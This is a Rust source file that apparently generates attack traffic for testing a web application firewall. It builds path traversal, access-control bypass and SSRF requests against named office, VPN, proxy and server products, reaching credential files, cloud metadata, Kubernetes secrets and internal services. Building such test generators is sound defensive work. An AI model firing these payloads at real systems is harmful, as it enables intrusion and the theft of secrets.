//! Reaching what is not meant for the outside: files of office systems and servers, consoles behind a confused path,
//! services of the inner network, and products that fetch an address for the asker.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload, request};
use super::super::super::codec;
use super::super::super::encode::Encoding;
use super::super::super::place::Place;
use super::super::super::rng::Rng;
use super::super::super::wire::{FORM, JSON, Wire};
use super::tools::{Shot, callback, form, json, path, query, sent, xml};

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("files-of-offices", AttackClass::Traversal, 32, office_files),
    request("files-of-servers", AttackClass::Traversal, 35, server_files),
    request("access-by-path-confusion", AttackClass::Traversal, 32, confusion),
    payload(
        "traversal-odd-dots",
        AttackClass::Traversal,
        30,
        odd_dots,
        &[Place::Query, Place::Form, Place::Path],
        &[Encoding::Plain, Encoding::Overlong, Encoding::DoublePercent, Encoding::Percent],
    ),
    payload(
        "ssrf-inner-services",
        AttackClass::Ssrf,
        30,
        services,
        Place::INPUTS,
        &[Encoding::Plain, Encoding::JsonEscape, Encoding::DoublePercent],
    ),
    request("ssrf-products", AttackClass::Ssrf, 30, fetching),
];

/// Seeyon, Weaver, Yonyou, Landray, Tongda, Kingdee, Dahua, Hikvision, Wanhu: downloads that take a path.
fn office_files(rng: &mut Rng) -> Shot {
    let (n, word) = (rng.below(9999), rng.letters(5));
    let up = "../".repeat(rng.between(3, 8));
    let target = rng.pick(&[
        "WEB-INF/web.xml",
        "WEB-INF/prop/weaver.properties",
        "../../../windows/win.ini",
        "WEB-INF/classes/jdbc.properties",
    ]);
    match rng.below(19) {
        0 => query(
            format!(
                "/seeyon/webmail.do?method=doDownloadAtt&filename={word}.txt&filePath=../conf/datasourceCtp.properties"
            ),
            rng,
        ),
        1 => query(format!("/weaver/ln.FileDownload?fpath=../ecology/{target}&{word}"), rng),
        2 => {
            query(format!("/NCFindWeb?service=IPreAlertConfigService&filename=../../ierp/bin/prop.xml&{word}={n}"), rng)
        }
        3 => form(
            "/sys/ui/extend/varkind/custom.jsp",
            format!(
                "var={}&{word}=",
                codec::form(format!(
                    "{{\"body\":{{\"file\":\"{}\"}}}}",
                    rng.pick(&["/WEB-INF/KmssConfig/admin.properties", "file:///etc/passwd", "/WEB-INF/web.xml"])
                ))
            ),
            rng,
        ),
        4 => query(
            format!(
                "/general/mytable/intel_view/video_file.php?MEDIA_DIR=../../../inc/&MEDIA_NAME=oa_config.php&{word}"
            ),
            rng,
        ),
        5 => path(
            format!(
                "/CommonFileServer/c:/{}?{word}",
                rng.pick(&["windows/win.ini", "boot.ini", "Windows/System32/drivers/etc/hosts"])
            ),
            rng,
        ),
        6 => query(
            format!(
                "/portal/attachment_downloadByUrlAtt.action?filePath=file:///{}&{word}",
                rng.pick(&["etc/passwd", "etc/shadow", "opt/evo/conf/config.properties"])
            ),
            rng,
        ),
        7 => query(format!("/portal/static/..;/conf/config.properties;.js?{word}={n}"), rng),
        8 => query(format!("/defaultroot/download_ftp.jsp?path=/../WEB-INF/&name={word}&FileName=web.xml"), rng),
        9 => query(
            format!("/servlet/downloadservlet?filename={word}&filepath={}", codec::percent(format!("{up}{target}"))),
            rng,
        ),
        10 => form("/servlet/CodeChart.jsp", format!("file={up}etc/passwd&type={word}"), rng),
        11 => query(format!("/resource/download?fileName=..%5C..%5C..%5C..%5Cwindows%5Cwin.ini&{word}"), rng),
        12 => query(format!("/OA/PM/svc.asmx?op=GetFile&path=~/web.config&{word}={n}"), rng),
        13 => query(format!("/yyoa/createMysql.jsp/..%2f..%2fWEB-INF%2fweb.xml?{word}"), rng),
        14 => query(
            format!(
                "/eoffice10/server/public/iWebOffice2015/OfficeServer2.php?download=1&FILENAME={up}mysql_config.ini&{word}"
            ),
            rng,
        ),
        15 => xml(
            "/uapws/service/nc.itf.ses.inittool.PortalSESInitToolService",
            format!(
                "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\" xmlns:por=\"http://inittool.ses.itf.nc/PortalSESInitToolService\"><soapenv:Body><por:getDataSourceConfig><file>{up}ierp/bin/prop.xml</file><n>{word}</n></por:getDataSourceConfig></soapenv:Body></soapenv:Envelope>"
            ),
            rng,
        ),
        16 => {
            query(format!("/WebReport/ReportServer?op=chart&cmd=get_geo_json&resourcepath=privilege.xml&{word}"), rng)
        }
        17 => query(format!("/esnserver/api?file={up}etc/passwd%00.jpg&{word}={n}"), rng),
        _ => query(
            format!(
                "/pacs/report/getImage?studyId={n}&imgPath={}",
                codec::percent(format!(
                    "D:\\PACS\\{}windows\\system32\\inetsrv\\config\\applicationHost.config",
                    "..\\".repeat(rng.between(2, 6))
                ))
            ),
            rng,
        ),
    }
}

/// Proxies, VPN gateways, application servers, monitors and stores with their own way to leave the root.
fn server_files(rng: &mut Rng) -> Shot {
    let (n, word) = (rng.between(4, 9), rng.letters(4));
    let up = "../".repeat(n);
    let file = rng.pick(&["etc/passwd", "etc/hosts", "etc/group", "proc/self/environ", "etc/os-release"]);
    match rng.below(27) {
        0 => path(
            format!(
                "/public/plugins/{}/{up}{file}",
                rng.pick(&["alertlist", "graph", "text", "mysql", "welcome", "prometheus"])
            ),
            rng,
        ),
        1 => path(
            format!(
                "/{}/{}{file}",
                rng.pick(&["icons", "cgi-bin"]),
                rng.pick(&[".%2e/", "%2e%2e/", "%%32%65%%32%65/"]).repeat(n)
            ),
            rng,
        ),
        2 => path(format!("/vpn/../vpns/cfg/smb.conf?{word}"), rng),
        3 => path(format!("/dana-na/../dana/html5acc/guacamole/{up}{file}?/dana/html5acc/guacamole/"), rng),
        4 => query(format!("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession&{word}"), rng),
        5 => query(
            format!(
                "/+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua&default-language&lang=../{word}"
            ),
            rng,
        ),
        6 => query(
            format!("/eam/vib?id=C:\\ProgramData\\VMware\\vCenterServer\\cfg\\vmware-vpx\\vcdb.properties&{word}")
                .replace('\\', "%5C"),
            rng,
        ),
        7 => path(format!("/%u002e/WEB-INF/web.xml?{word}"), rng),
        8 => query(format!("/static?/%2557EB-INF/web.xml&{word}"), rng),
        9 => path(format!("/{}{}{file}", "%2F".repeat(n), "..%2F".repeat(n)), rng),
        10 => path(format!("/{word}/default/master/{}{}", "..%252F".repeat(n), file.replace('/', "%252F")), rng),
        11 => path(format!("/jobmanager/logs/{}{}", "..%252f".repeat(n + 3), file.replace('/', "%252f")), rng),
        12 => query(format!("/index.php?target=db_sql.php%253f/{up}{file}&{word}"), rng),
        13 => query(
            format!(
                "/wp-admin/admin-ajax.php?action=duplicator_download&file={}wp-config.php&{word}",
                "..%2F".repeat(n)
            ),
            rng,
        ),
        14 => query(format!("/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php&{word}"), rng),
        15 => path(format!("/uploads/user/{}{file}?{word}", "..%2F".repeat(n + 2)), rng),
        16 => path(format!("/_plugin/head/{up}{file}?{word}"), rng),
        17 => (
            sent(Wire::get(format!("/{word}")).header("Accept", format!("{up}{file}{{{{")), rng),
            Place::Header,
            Encoding::Plain,
        ),
        18 => path(format!("/assets/file:%2f%2f/app/assets/images/{}{}", "%252e%252e/".repeat(n), file), rng),
        19 => path(format!("/lib///{}{}", "....//".repeat(n), file.replace('/', "//")), rng),
        20 => path(format!("/{}../../../{file}?{word}", rng.pick(&["static", "files", "img", "js", "media"])), rng),
        21 => query(
            format!("/solr/{word}/replication?command=filecontent&wt=filestream&generation=1&file={up}{file}"),
            rng,
        ),
        22 => json(
            "/api/v1/files/preview",
            format!("{{\"type\":\"text\",\"file\":\"{up}{file}\",\"id\":\"{word}\"}}"),
            rng,
        ),
        23 => {
            let argument = format!("@/{file}");
            let body = [
                b"\0\0\0\x06\0\0\x04help\0\0\0".as_slice(),
                &[argument.len() as u8 + 2, 0, 0, argument.len() as u8],
                argument.as_bytes(),
                b"\0\0\0\x07\0\x02\x00\x05UTF-8\0\0\0\x07\0\x01\0\x05zh_CN\0\0\0\0\x03",
            ]
            .concat();
            (
                sent(
                    Wire::post(format!("/{word}/cli?remoting=false"), "application/octet-stream", body)
                        .header("Side", "upload")
                        .header("Session", rng.uuid()),
                    rng,
                ),
                Place::Body,
                Encoding::Plain,
            )
        }
        24 => path(format!("/@fs/{file}?import&raw??&{word}"), rng),
        25 => path(format!("/druid/coordinator/v1/lookups/config/{}{file}?{word}", "%2e%2e%2f".repeat(n)), rng),
        _ => path(
            format!("/fileserver/{word}/..\\..\\{}conf\\jetty-realm.properties", "..\\".repeat(n)).replace('\\', "%5C"),
            rng,
        ),
    }
}

/// A proxy and an application that read one path differently; headers that name another path; setup pages left open.
fn confusion(rng: &mut Rng) -> Shot {
    let word = rng.letters(5);
    let inner = rng.pick(&[
        "admin/index",
        "actuator/env",
        "system/user/list",
        "druid/index.html",
        "nacos/v1/auth/users?pageNo=1&pageSize=9",
    ]);
    match rng.below(20) {
        0 => path(format!("/{word}/..;/{inner}"), rng),
        1 => path(format!("/;{word}/{inner}"), rng),
        2 => path(format!("/login/..%2f{inner}"), rng),
        3 => path(format!("/{word}.js/%2e%2e/{inner}"), rng),
        4 => path(format!("/{}/{word}%0a", inner.split('?').next().unwrap()), rng),
        5 => path(format!("/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd&{word}"), rng),
        6 => path(
            format!("/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=list+auth+user+admin&{word}"),
            rng,
        ),
        7 => path(
            format!(
                "/setup/setup-s/%u002e%u002e/%u002e%u002e/{}.jsp?{word}",
                rng.pick(&["log", "user-groups", "plugin-admin"])
            ),
            rng,
        ),
        8 => path(format!("/goanywhere/images/..;/wizard/InitialAccountSetup.xhtml?{word}"), rng),
        9 => query(format!("/hax?jsp=/app/rest/users;.jsp&{word}"), rng),
        10 => (
            sent(Wire::get(format!("/{word}")).header("X-Original-URL", format!("/{inner}")), rng),
            Place::Header,
            Encoding::Plain,
        ),
        11 => (
            sent(Wire::get(format!("/anything?{word}")).header("X-Rewrite-URL", format!("/{inner}")), rng),
            Place::Header,
            Encoding::Plain,
        ),
        12 => {
            let name = rng.pick(&["middleware", "src/middleware", "pages/_middleware"]);
            (
                sent(
                    Wire::get(format!("/dashboard/{word}")).header("X-Middleware-Subrequest", [name; 5].join(":")),
                    rng,
                ),
                Place::Header,
                Encoding::Plain,
            )
        }
        13 => path(
            format!(
                "/seeyon/personalBind.do.jpg/..;/ajax.do?method=ajaxAction&managerName=mMOneProfileManager&managerMethod=getOAProfile&{word}"
            ),
            rng,
        ),
        14 => path(format!("/SetupWizard.aspx/{word}"), rng),
        15 => path(format!("/mifs/asfV3/api/v2/..;/..;/admin/{word}"), rng),
        16 => path(format!("/api/users;/.jpg/..;/..;/{inner}"), rng),
        17 => path(format!("/console/images/%252E%252E%252Fconsole.portal?{word}="), rng),
        18 => path(format!("/{word}/%252e%252e/%252e%252e/{inner}"), rng),
        _ => path(format!("/restplay/..CFIDE/wizards/common/utils.cfc?method=wizardHash&{word}="), rng),
    }
}

/// Up by other characters than two dots and a slash between them.
fn odd_dots(rng: &mut Rng) -> Vec<u8> {
    let (up, word) = (rng.between(3, 8), rng.letters(4));
    let file = rng.pick(&["etc/passwd", "etc/hostname", "windows/win.ini", "proc/version"]);
    match rng.below(11) {
        0 => format!("{}{file}\0{word}", "..././".repeat(up)),
        1 => format!("{word}/{}{file}", "....//".repeat(up)),
        2 => format!("{}{}", "\u{ff0e}\u{ff0e}\u{2215}".repeat(up), file.replace('/', "\u{2215}")),
        3 => format!("/{word}{}/{file}", "/./..".repeat(up + 1)),
        4 => format!("C:/{word}/{}{}", "../".repeat(up), "xampp/apache/conf/httpd.conf"),
        5 => format!("{}{file}{}", "../".repeat(up), "/.".repeat(up * 40)),
        6 => format!("{word}/../{}{file};.jpg", "../".repeat(up)),
        7 => format!("\\\\?\\C:\\{word}\\{}windows\\win.ini", "..\\".repeat(up)),
        8 => format!("~{word}/../{}{file}", "../".repeat(up)),
        9 => format!("{}var/lib/kubelet/pki/kubelet-client-{word}.pem", "../".repeat(up)),
        _ => format!("{}{file}?{word}.html", "..\\../".repeat(up)),
    }
    .into_bytes()
}

/// Consoles and stores that answer without a password to whoever is inside.
fn services(rng: &mut Rng) -> Vec<u8> {
    let (n, word) = (rng.between(1, 254), rng.letters(4));
    let local = rng.pick(&[
        "127.0.0.1",
        "localhost",
        "0.0.0.0",
        "127.1",
        "[::1]",
        "127.0.0.1.nip.io",
        "localtest.me",
        "2130706433",
    ]);
    match rng.below(17) {
        0 => format!("http://{local}:2375/containers/json?{word}"),
        1 => format!("http://{local}:9200/_cat/indices?{word}"),
        2 => format!("http://{local}:8500/v1/agent/self?{word}"),
        3 => format!("http://{local}:6379/{word}%0d%0aKEYS%20*"),
        4 => format!("http://{local}:10255/pods?{word}"),
        5 => format!("https://kubernetes.default.svc/api/v1/namespaces/{word}/secrets"),
        6 => format!("http://{local}:8080/manager/text/list?{word}"),
        7 => format!("http://{local}/server-status?{word}"),
        8 => format!("http://169.254.169.254/openstack/latest/meta_data.json?{word}"),
        9 => format!("http://169.254.169.254/opc/v2/instance/{word}"),
        10 => format!("http://169.254.169.254/hetzner/v1/metadata/{word}"),
        11 => format!("http://www.boai.example:80#@{local}:{n}/{word}"),
        12 => format!("http://{local}:22/?{word}={n}"),
        13 => format!("gopher://{local}:3306/_%a3%00%00%01%85%a6%ff%01{word}"),
        14 => format!("gopher://{local}:9000/_%01%01%00%01%00%08%00%00%00%01%00%00%00%00%00%00SCRIPT_FILENAME/var/www/html/{word}.php"),
        15 => format!("http://192.168.{n}.1/cgi-bin/luci?{word}\\@www.boai.example/"),
        _ => format!("http://{local}:8848/nacos/v1/cs/configs?dataId={word}&group=&search=blur"),
    }
    .into_bytes()
}

/// Products that ask another server for somebody: Exchange, WebLogic, Jira, GitLab, vCenter, GeoServer, Zimbra, UEditor.
fn fetching(rng: &mut Rng) -> Shot {
    let (away, word, n) = (callback(rng), rng.letters(4), rng.below(9999));
    let inner = rng.pick(&["127.0.0.1:7001", "127.0.0.1:6379", "127.0.0.1:8080", "169.254.169.254"]);
    match rng.below(19) {
        0 => path(format!("/autodiscover/autodiscover.json?@{word}.example/{}?&Email=autodiscover/autodiscover.json%3F@{word}.example", rng.pick(&["mapi/nspi/", "owa/", "ews/exchange.asmx", "powershell/"])), rng),
        1 => (sent(Wire::post(format!("/ecp/{word}.js"), FORM, "").header("Cookie", format!("X-BEResource=localhost~{n}; X-AnonResource-Backend={away}/ecp/default.flt?~3; X-AnonResource=true")), rng), Place::Cookie, Encoding::Plain),
        2 => query(format!("/uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&txtSearchname=sdf&txtSearchkey=&txtSearchfor=&selfor=Business+location&btnSubmit=Search&operator=http://{inner}/{word}"), rng),
        3 => query(format!("/plugins/servlet/gadgets/makeRequest?url=http://www.boai.example@{inner}/{word}"), rng),
        4 => query(format!("/?unix:{}|http://{inner}/{word}", "A".repeat(rng.between(4100, 4200))).replace('|', "%7C"), rng),
        5 => form("/geoserver/TestWfsPost", format!("form_hf_0=&url=http%3A%2F%2F{inner}%2Fgeoserver%2F..&body={word}&username=&password="), rng),
        6 => xml("/xmlrpc.php", format!("<?xml version=\"1.0\"?><methodCall><methodName>pingback.ping</methodName><params><param><value><string>http://{inner}/{word}</string></value></param><param><value><string>http://www.boai.example/?p={n}</string></value></param></params></methodCall>"), rng),
        7 => json("/api/v4/ci/lint?include_merged_yaml=true", format!("{{\"content\":\"include:\\n  remote: http://{inner}/api/v1/{word}?test.yml\"}}"), rng),
        8 => query(format!("/service/error/sfdc_preauth.jsp?session=s&userid={n}&server=http://{inner}%23.salesforce.com/"), rng),
        9 => query(format!("/ueditor/net/controller.ashx?action=catchimage&encode=utf-8&source[]=http://{away}/{word}.jpg?.aspx"), rng),
        10 => query(format!("/forum.php?mod=ajax&action=downremoteimg&message=[img=1,1]http://{inner}/{word}.png[/img]&formhash={}", rng.hex(8)), rng),
        11 => (sent(Wire::post("/minio/webrpc", JSON, format!("{{\"id\":1,\"jsonrpc\":\"2.0\",\"params\":{{\"token\":\"{word}\"}},\"method\":\"web.LoginSTS\"}}")).host(inner), rng), Place::Header, Encoding::Plain),
        12 => query(format!("/solr/{word}/debug/dump?param=ContentStreams&stream.url=file:///etc/passwd"), rng),
        13 => query(format!("/solr/{word}/replication?command=fetchindex&masterUrl=http://{inner}/x&httpBasicAuthUser={n}"), rng),
        14 => query(format!("/ui/vcav-bootstrap/rest/vcav-providers/provider-logo?url=file:///etc/{}&{word}", rng.pick(&["passwd", "hosts", "issue"])), rng),
        15 => query(format!("/render/public/..%252f%255C{away}%252f%253F%252f..%252f..?{word}"), rng),
        16 => json("/api/probe", format!("{{\"target\":\"http://{inner}/latest/api/token\",\"headers\":{{\"X-aws-ec2-metadata-token-ttl-seconds\":\"60\"}},\"name\":\"{word}\"}}"), rng),
        17 => query(format!("/api/export/pdf?html={}", codec::percent(format!("<iframe src=\"http://{inner}/{word}\" width=900></iframe><link rel=attachment href=\"file:///etc/passwd\">"))), rng),
        _ => (sent(Wire::get(format!("/{word}")).header("X-Forwarded-Host", inner).header("X-Forwarded-Server", "localhost").header("X-Original-Host", "169.254.169.254").header("Forwarded", format!("host={inner};by=127.0.0.1")), rng), Place::Header, Encoding::Plain),
    }
}
